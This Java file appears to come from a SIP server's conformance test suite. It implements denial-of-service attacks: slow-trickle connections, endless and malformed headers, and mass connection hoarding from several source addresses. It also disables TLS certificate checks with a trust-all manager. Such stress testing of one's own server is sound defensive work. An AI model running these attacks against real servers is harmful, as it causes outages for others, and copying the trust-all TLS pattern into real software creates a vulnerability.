package io.allo.conformance.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.locks.LockSupport;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocketFactory;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509TrustManager;

/**
 * Connections that are a burden. {@code slow HOST TCP TLS EACH}: that many of each kind that say one byte a second, or nothing; prints how many
 * the server has closed, and how many bytes it sent. {@code endless HOST TCP TLS}: messages that never end or are too long; prints for each
 * after how many bytes it was cut off and what was answered. {@code hoard HOST TCP ADDRESS...}: 200 connections from each address with
 * a message that wants its last byte; prints how many stayed up to the end. A virtual thread for each connection.
 */
public final class ConnectionProgram {
    private static final int PATIENCE_MS = 120_000;
    private static final int HOARDED = 200;
    private static final String HEAD =
            "OPTIONS sip:alice@example.com SIP/2.0\r\nVia: SIP/2.0/TCP 10.0.0.1;branch=z9hG4bKslow\r\n"
                    + "From: <sip:a@example.com>;tag=a\r\nTo: <sip:b@example.com>\r\nCall-ID: slow\r\nCSeq: 1 OPTIONS\r\nMax-Forwards: 70\r\n";

    private final String host;
    private final int tcp;
    private final int tls;

    private ConnectionProgram(String host, String tcp, String tls) {
        this.host = host;
        this.tcp = Integer.parseInt(tcp);
        this.tls = Integer.parseInt(tls);
    }

    /** Runs the attack that the arguments describe. */
    public static void main(String[] arguments) throws IOException, InterruptedException {
        var rest = List.of(arguments).subList(3, arguments.length);
        switch (arguments[0]) {
            case "slow" ->
                new ConnectionProgram(arguments[1], arguments[2], arguments[3]).slow(Integer.parseInt(arguments[4]));
            case "endless" -> new ConnectionProgram(arguments[1], arguments[2], arguments[3]).endless();
            case "hoard" -> new ConnectionProgram(arguments[1], arguments[2], "0").hoard(rest);
            default -> throw new IllegalArgumentException(arguments[0]);
        }
    }

    // ---- slow

    private interface Opening {
        Socket open() throws IOException;
    }

    private final AtomicInteger closed = new AtomicInteger();
    private final AtomicInteger came = new AtomicInteger();

    private void slow(int each) throws InterruptedException {
        var hello = new byte[2_000];
        hello[0] = 22;
        hello[1] = 3;
        hello[2] = 1;
        hello[3] = 7; // a record of nearly 1,995 bytes
        hello[4] = (byte) 0xc0;
        hello[5] = 1;
        byte[] request = HEAD.getBytes(StandardCharsets.US_ASCII);
        var open = new CountDownLatch(4 * each);
        var done = new CountDownLatch(4 * each);
        for (int i = 0; i < each; i++) {
            begin(() -> new Socket(host, tcp), request, open, done);
            begin(() -> new Socket(host, tls), hello, open, done);
            begin(() -> new Socket(host, tls), new byte[0], open, done);
            begin(this::secured, request, open, done);
        }
        open.await();
        System.out.println("slow " + 4 * each);
        done.await();
        System.out.println("closed " + closed + " of " + 4 * each + ", came back " + came);
    }

    private void begin(Opening opening, byte[] words, CountDownLatch open, CountDownLatch done) {
        Thread.ofVirtual().start(() -> {
            try (Socket socket = opening.open()) {
                open.countDown();
                socket.setSoTimeout(1_000);
                trickle(socket, words);
            } catch (IOException cutOff) {
                closed.incrementAndGet();
            } finally {
                open.countDown();
                done.countDown();
            }
        });
    }

    /** Says a byte a second until it is cut off, which throws or ends; gives up when the server's patience is longer than this one's. */
    private void trickle(Socket socket, byte[] words) throws IOException {
        long end = System.nanoTime() + TimeUnit.MILLISECONDS.toNanos(PATIENCE_MS);
        var in = socket.getInputStream();
        var out = socket.getOutputStream();
        for (int i = 0; System.nanoTime() < end; i++) {
            if (i < words.length) {
                out.write(words[i]);
                out.flush();
            }
            try {
                if (in.read() < 0) {
                    closed.incrementAndGet();
                    return;
                }
                came.incrementAndGet();
            } catch (SocketTimeoutException second) {
                // silence, as expected
            }
        }
    }

    private Socket secured() throws IOException {
        var socket = trusting().createSocket(host, tls);
        socket.setSoTimeout(PATIENCE_MS);
        ((javax.net.ssl.SSLSocket) socket).startHandshake();
        return socket;
    }

    private static SSLSocketFactory trusting() {
        var anybody = new X509TrustManager() {
            @Override
            public void checkClientTrusted(X509Certificate[] chain, String type) {
                // an attacker checks nobody
            }

            @Override
            public void checkServerTrusted(X509Certificate[] chain, String type) {
                // an attacker checks nobody
            }

            @Override
            public X509Certificate[] getAcceptedIssuers() {
                return new X509Certificate[0];
            }
        };
        try {
            var context = SSLContext.getInstance("TLS");
            context.init(null, new TrustManager[] {anybody}, null);
            return context.getSocketFactory();
        } catch (GeneralSecurityException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    // ---- endless

    private void endless() throws IOException {
        String line = "X-More: " + "a".repeat(4_000) + "\r\n";
        for (String over : List.of("tcp", "tls")) {
            Opening opening = over.equals("tcp") ? () -> new Socket(host, tcp) : this::secured;
            pour(over + " headers", opening, HEAD, line);
            pour(over + " line", opening, HEAD + "X-Long: ", "a".repeat(8_192));
            pour(over + " empty-lines", opening, "", "\r\n\r\n".repeat(2_048));
            pour(over + " no-sip", opening, "", "all work and no play ".repeat(400));
            for (String length : List.of("2147483648", "4294967297", "99999999999999999999", "-1", "300000", "7 8")) {
                pour(
                        over + " content-length-" + length.replace(' ', '-'),
                        opening,
                        HEAD + "Content-Length: " + length + "\r\n\r\n",
                        "a".repeat(8_192));
            }
        }
        System.out.println("poured");
    }

    /** Writes without end, does not read until it is cut off, and says when that was. */
    private static void pour(String name, Opening opening, String first, String again) throws IOException {
        long sent = 0;
        try (Socket socket = opening.open()) {
            socket.setSoTimeout(20_000);
            var out = socket.getOutputStream();
            byte[] more = again.getBytes(StandardCharsets.US_ASCII);
            var writer = Thread.ofVirtual().start(() -> {
                try {
                    write(out, first.getBytes(StandardCharsets.US_ASCII), more);
                } catch (IOException cutOff) {
                    // the reader sees it as well
                }
            });
            var answer = new StringBuilder();
            String how = "cut off";
            try {
                writer.join(10_000);
                var in = socket.getInputStream();
                var bytes = new byte[8_192];
                for (int n = in.read(bytes); n >= 0; n = in.read(bytes)) {
                    if (answer.length() < 8_192) {
                        answer.append(new String(bytes, 0, n, StandardCharsets.ISO_8859_1));
                    }
                }
            } catch (SocketTimeoutException silence) {
                how = "NOT CUT OFF";
            } catch (IOException reset) {
                how = "cut off by reset";
            } catch (InterruptedException interrupted) {
                Thread.currentThread().interrupt();
            }
            System.out.println("poured " + name + ": " + how + ", " + status(answer.toString()));
        }
    }

    private static void write(OutputStream out, byte[] first, byte[] more) throws IOException {
        out.write(first);
        while (true) {
            out.write(more);
        }
    }

    private static String status(String answer) {
        return answer.startsWith("SIP/2.0 ") ? answer.substring(8, 11) : answer.isBlank() ? "silence" : "something";
    }

    // ---- hoard

    private void hoard(List<String> addresses) throws InterruptedException {
        byte[] message =
                (HEAD + "Content-Length: 260000\r\n\r\n" + "a".repeat(259_999)).getBytes(StandardCharsets.US_ASCII);
        var sockets = new ArrayList<Socket>();
        var given = new CountDownLatch(HOARDED * addresses.size());
        var held = new AtomicInteger();
        for (int i = 0; i < HOARDED * addresses.size(); i++) {
            String from = addresses.get(i % addresses.size());
            Thread.ofVirtual().start(() -> {
                try {
                    var socket = new Socket();
                    socket.bind(new InetSocketAddress(InetAddress.getByName(from), 0));
                    socket.connect(new InetSocketAddress(host, tcp), PATIENCE_MS);
                    synchronized (sockets) {
                        sockets.add(socket);
                    }
                    socket.getOutputStream().write(message);
                    held.incrementAndGet();
                } catch (IOException cutOff) {
                    closed.incrementAndGet();
                } finally {
                    given.countDown();
                }
            });
            LockSupport.parkNanos(TimeUnit.MILLISECONDS.toNanos(2));
        }
        given.await();
        System.out.println("hoarding " + held + ", cut off " + closed);
        LockSupport.parkNanos(TimeUnit.SECONDS.toNanos(3_600)); // until it is ended
    }
}
